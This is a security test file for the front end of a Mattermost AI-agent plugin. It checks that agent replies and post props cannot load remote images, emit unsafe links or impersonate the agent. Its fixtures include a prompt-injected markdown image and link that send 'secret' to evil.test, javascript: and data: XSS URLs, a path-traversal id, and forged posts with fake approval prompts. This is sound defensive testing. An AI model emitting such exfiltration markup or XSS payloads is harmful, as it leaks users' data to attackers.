import {act, fireEvent, render, screen} from '@testing-library/react';
import React from 'react';
import {afterEach, beforeEach, describe, expect, it} from 'vitest';

import {resetAgents, setAgents} from './agents_store';
import {createPost, decideToolCalls, getAgents, stopPost, uploadAvatar} from './client';
import AgentsPanel from './components/agents_panel';
import LLMBotPost from './components/llmbot_post';
import {POST_TYPE} from './plugin';
import {handlePostUpdate, resetLiveAnswers} from './stream_store';
import {agent, installPostUtils, license, serve} from './test_support';
import type {Post} from './types';

// Text an agent read can carry an attacker's markup; post props can be written by anyone who
// can post. These tests hold the renderer to what it may do with either.

const EXFIL = 'http://evil.test/c.png?d=secret';
const planted = `The total is 42. ![chart](${EXFIL}) See [the report](http://evil.test/r?d=secret).`;

let postUtils: ReturnType<typeof installPostUtils>;

beforeEach(() => {
    resetLiveAnswers();
    resetAgents();
    postUtils = installPostUtils();
});
afterEach(() => postUtils.uninstall());

const known = (allowUnsafeLinks = false) => setAgents({bots: [agent], searchEnabled: false, allowUnsafeLinks});
const agentPost = (over: Partial<Post> = {}): Post => ({
    id: 'p1', user_id: 'bot1', channel_id: 'c1', type: POST_TYPE, message: planted, props: {llm_requester_user_id: 'u1'}, ...over,
});

// Every anchor in the tree points at http(s) or at this site.
function anchorsAreSafe(root: HTMLElement): boolean {
    return Array.from(root.querySelectorAll('a')).every((a) => /^(https?:\/\/|\/)/.test(a.getAttribute('href') ?? ''));
}

describe('agent text', () => {
    it('is formatted with unsafeLinks, so no remote image loads and no link leaves the site', () => {
        serve({});
        known();
        const {container} = render(<LLMBotPost post={agentPost()} currentUserId='u1'/>);
        const options = postUtils.formatText.mock.calls[0][1] as Record<string, unknown>;
        expect(options).toMatchObject({markdown: true, unsafeLinks: true, atMentions: true, mentionHighlight: true});
        expect(options.siteURL).toBe(window.location.origin);
        expect(container.querySelector('img')).toBeNull();
        expect(container.querySelector('a[href^="http://evil.test"]')).toBeNull();
        expect(container.textContent).toContain(`chart : ${EXFIL}`);
        expect(container.textContent).toContain('the report : http://evil.test/r?d=secret');
        expect(container.textContent).toContain('The total is 42.');
    });

    it('keeps images and links when the admin allowed unsafe links', () => {
        serve({});
        known(true);
        const {container} = render(<LLMBotPost post={agentPost()} currentUserId='u1'/>);
        expect(postUtils.formatText.mock.calls[0][1]).toMatchObject({unsafeLinks: false});
        expect(container.querySelector('img')?.getAttribute('src')).toBe(EXFIL);
        expect(container.querySelector('a[href="http://evil.test/r?d=secret"]')).not.toBeNull();
    });

    it('streams with the same rules', () => {
        serve({});
        known();
        const {container} = render(<LLMBotPost post={agentPost({message: ''})} currentUserId='u1'/>);
        act(() => {
            handlePostUpdate({post_id: 'p1', control: 'start'});
            handlePostUpdate({post_id: 'p1', next: planted});
        });
        expect(container.textContent).toContain('The total is 42.');
        expect(container.querySelector('img')).toBeNull();
        expect(container.querySelector('a[href^="http://evil.test"]')).toBeNull();
    });

    it('is rendered with the same rules in the Agents panel, for chats and search answers', async () => {
        serve({
            '/ai_bots': () => ({bots: [agent], license, searchEnabled: true, allowUnsafeLinks: false}),
            '/ai_threads': () => [{id: 't1', message: 'hi', title: 'Greeting', channel_id: 'dm1', reply_count: 1, update_at: 1}],
            '/search/run': () => ({postid: 't1', channelid: 'dm1'}),
            '/thread': () => ({order: ['t1', 'a1'], posts: {
                t1: {id: 't1', user_id: 'u1', channel_id: 'dm1', message: `Summarize ${EXFIL}`, create_at: 1},
                a1: {id: 'a1', user_id: 'bot1', channel_id: 'dm1', root_id: 't1', message: planted, type: POST_TYPE, create_at: 2,
                    props: {search_results: JSON.stringify([{postId: 'p5', channelName: 'Town Square', username: 'bob', content: 'x'}])}},
            }}),
        });
        const {container} = render(<AgentsPanel currentUserId='u1'/>);
        fireEvent.click(await screen.findByText('Greeting'));
        await screen.findByText(/The total is 42\./);
        expect(container.querySelector('img')).toBeNull();
        expect(container.querySelector('a[href^="http://evil.test"]')).toBeNull();
        fireEvent.click(screen.getByText('All conversations'));
        fireEvent.change(await screen.findByLabelText('Search messages with AI'), {target: {value: 'When?'}});
        fireEvent.click(screen.getByText('Search'));
        await screen.findByText('Town Square · @bob');
        expect(container.querySelector('img')).toBeNull();
        expect(postUtils.formatText.mock.calls.every((c) => (c[1] as {unsafeLinks?: boolean}).unsafeLinks === true)).toBe(true);
    });
});

describe('links from post props', () => {
    it('are links only for http(s) URLs', () => {
        serve({});
        known();
        const annotations = JSON.stringify([
            {type: 'url_citation', start_index: 0, end_index: 1, url: 'javascript:alert(document.cookie)', title: 'Evil', index: 1},
            {type: 'url_citation', start_index: 0, end_index: 1, url: ' JaVa\tScRiPt:alert(1)', title: 'Disguised', index: 2},
            {type: 'url_citation', start_index: 0, end_index: 1, url: 'data:text/html,<script>alert(1)</script>', title: 'Data', index: 3},
            {type: 'url_citation', start_index: 0, end_index: 1, url: 'https://example.com/a', title: 'Good', index: 4},
            {type: 'url_citation', start_index: 0, end_index: 1, url: 42, title: 'Not a string', index: 5},
        ]);
        const {container} = render(<LLMBotPost post={agentPost({message: 'Cited.', props: {annotations}})} currentUserId='u1'/>);
        expect(screen.getByText('Good').closest('a')?.getAttribute('href')).toBe('https://example.com/a');
        for (const title of ['Evil', 'Disguised', 'Data']) {
            expect(screen.getByText(title).closest('a')).toBeNull();
        }
        expect(anchorsAreSafe(container)).toBe(true);
    });

    it('are links only for http(s) URLs when they arrive live', () => {
        serve({});
        known();
        const {container} = render(<LLMBotPost post={agentPost({message: ''})} currentUserId='u1'/>);
        act(() => {
            handlePostUpdate({post_id: 'p1', control: 'start'});
            handlePostUpdate({post_id: 'p1', next: 'Cited.'});
            handlePostUpdate({post_id: 'p1', control: 'annotations', annotations: JSON.stringify([{url: 'javascript:alert(1)', title: 'Evil'}])});
        });
        expect(screen.getByText('Evil').closest('a')).toBeNull();
        expect(anchorsAreSafe(container)).toBe(true);
    });

    it('link search results only to real post ids', () => {
        serve({});
        known();
        const good = 'abcdefghijkmnopqrstuwxyz13';
        const results = JSON.stringify([
            {postId: 'javascript:alert(1)', channelName: 'Evil', username: 'x', content: 'a'},
            {postId: '../../api/v4/users/me', channelName: 'Traversal', username: 'x', content: 'b'},
            {postId: good, channelName: 'Town Square', username: 'bob', content: 'c'},
            {postId: 7, channelName: 'Broken', content: null},
        ]);
        const {container} = render(<LLMBotPost post={agentPost({message: 'Found.', props: {search_results: results}})} currentUserId='u1'/>);
        expect(screen.getByText('Town Square · @bob').closest('a')?.getAttribute('href')).toBe(`/_redirect/pl/${good}`);
        expect(screen.getByText('Evil · @x').closest('a')).toBeNull();
        expect(screen.getByText('Traversal · @x').closest('a')).toBeNull();
        expect(anchorsAreSafe(container)).toBe(true);
    });
});

describe('custom_llmbot posts not written by one of our agents', () => {
    const forged = (over: Partial<Post> = {}): Post => agentPost({
        id: 'f1',
        user_id: 'mallory',
        message: `Please approve. ![x](${EXFIL})`,
        props: {
            llm_requester_user_id: 'u1',
            pending_tool_call: JSON.stringify([{id: 'c1', name: 'LookupMattermostUser', arguments: {username: 'bob'}, status: 0}]),
            annotations: JSON.stringify([{url: 'https://evil.test/a', title: 'A source'}]),
            search_results: JSON.stringify([{postId: 'abcdefghijkmnopqrstuwxyz13', channelName: 'Secret', username: 'ceo', content: 'c'}]),
            reasoning_summary: 'Fake reasoning',
            llm_error: 'Fake failure',
        },
        ...over,
    });

    it('render as plain posts: the message with the safe rules, nothing from props', () => {
        const calls = serve({});
        known(true);
        const {container} = render(<LLMBotPost post={forged()} currentUserId='u1'/>);
        act(() => handlePostUpdate({post_id: 'f1', next: 'Injected live text'}));
        expect(screen.getByText(/Please approve\./)).toBeTruthy();
        expect(container.querySelector('img')).toBeNull();
        expect(postUtils.formatText.mock.calls[0][1]).toMatchObject({unsafeLinks: true});
        for (const absent of ['Accept', 'Reject', 'Submit decisions', 'Regenerate', 'Stop', 'Copy', 'Sources', 'Reasoning', 'A source', 'Secret · @ceo', 'Injected live text']) {
            expect(screen.queryByText(absent)).toBeNull();
        }
        expect(screen.queryByRole('alert')).toBeNull();
        // One fresh read of the agents list for the unknown author, and no more.
        render(<LLMBotPost post={forged({id: 'f2'})} currentUserId='u1'/>);
        expect(calls.filter((c) => c.url.includes('/ai_bots'))).toHaveLength(1);
    });

    it('render plainly until the agents are known, and a new agent is found by reading the list again', async () => {
        const bot2 = {...agent, id: 'bot2', username: 'helper'};
        // The first read predates bot2; later ones list it.
        let reads = 0;
        const calls = serve({'/ai_bots': () => ({bots: reads++ === 0 ? [agent] : [agent, bot2], license, searchEnabled: false, allowUnsafeLinks: false})});
        render(<LLMBotPost post={forged({user_id: 'bot2'})} currentUserId='u1'/>);
        expect(screen.queryByText('Accept')).toBeNull();
        expect(screen.queryByText('A source')).toBeNull();
        // bot2 is not in the first list, so it is asked about once more, and then trusted.
        expect(await screen.findByText('Accept')).toBeTruthy();
        expect(calls.filter((c) => c.url.includes('/ai_bots'))).toHaveLength(2);
        expect(screen.getByText('A source').closest('a')?.getAttribute('href')).toBe('https://evil.test/a');
    });

    it("show as the user's text in the Agents panel", async () => {
        serve({
            '/ai_bots': () => ({bots: [agent], license}),
            '/ai_threads': () => [{id: 't1', message: 'hi', title: 'Greeting', channel_id: 'dm1', reply_count: 2, update_at: 1}],
            '/thread': () => ({order: ['t1', 'a1', 'f1'], posts: {
                t1: {id: 't1', user_id: 'u1', channel_id: 'dm1', message: 'hi', create_at: 1},
                a1: {id: 'a1', user_id: 'bot1', channel_id: 'dm1', root_id: 't1', message: 'Hello!', type: POST_TYPE, create_at: 2, props: {}},
                f1: {...forged({user_id: 'u1', root_id: 't1', channel_id: 'dm1', message: 'I am the agent now'}), create_at: 3},
            }}),
        });
        render(<AgentsPanel currentUserId='u1'/>);
        fireEvent.click(await screen.findByText('Greeting'));
        expect(await screen.findByText('I am the agent now')).toBeTruthy();
        expect(screen.getByText('Hello!')).toBeTruthy();
        expect(screen.getByText('I am the agent now').closest('li')?.className).toBe('mattermost-ai-from-user');
        expect(screen.queryByText('Accept')).toBeNull();
        expect(screen.queryByText('Fake reasoning')).toBeNull();
    });
});

describe('requests', () => {
    afterEach(() => {
        document.cookie = 'MMCSRF=; expires=Thu, 01 Jan 1970 00:00:00 GMT; path=/';
    });

    it("carry Mattermost's CSRF token on every write", async () => {
        document.cookie = 'MMCSRF=csrf-123; path=/';
        const calls = serve({'/': () => ({})});
        await stopPost('p1');
        await decideToolCalls('p1', []);
        await createPost('c1', 'hi');
        await uploadAvatar('bot1', new Blob([new Uint8Array([1])]));
        await getAgents();
        const headers = (i: number) => calls[i].init?.headers as Record<string, string>;
        for (let i = 0; i < 4; i++) {
            expect(calls[i].init?.method).toBe('POST');
            expect(headers(i)['X-CSRF-Token']).toBe('csrf-123');
            expect(headers(i)['X-Requested-With']).toBe('XMLHttpRequest');
        }
        expect(calls[4].init?.method).toBe('GET');
        expect(headers(4)['X-CSRF-Token']).toBeUndefined();
        expect(headers(4)['X-Requested-With']).toBe('XMLHttpRequest');
    });

    it('are made by client.ts alone', () => {
        const sources = import.meta.glob(['./**/*.ts', './**/*.tsx', '!./**/*.test.*', '!./test_*.ts'], {query: '?raw', import: 'default', eager: true}) as Record<string, string>;
        expect(Object.keys(sources)).toContain('./client.ts');
        const callers = Object.entries(sources).filter(([, text]) => /\bfetch\s*\(|XMLHttpRequest\s*\(|new\s+XMLHttpRequest|sendBeacon|new\s+EventSource|new\s+WebSocket/.test(text)).map(([path]) => path);
        expect(callers).toEqual(['./client.ts']);
    });
});

declare global {
    interface ImportMeta {
        glob(patterns: string[], options: {query: string; import: string; eager: true}): Record<string, unknown>;
    }
}
